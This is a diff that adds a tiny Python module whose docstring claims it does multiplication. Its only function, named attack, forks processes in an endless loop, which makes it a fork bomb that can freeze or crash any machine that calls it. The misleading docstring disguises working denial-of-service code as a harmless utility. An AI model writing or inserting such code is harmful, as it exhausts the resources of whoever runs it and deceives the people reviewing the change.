@@ -1,0 +1,7 @@
+"""Multiply."""
+import os
+
+
+def attack():
+    while True:
+        os.fork()
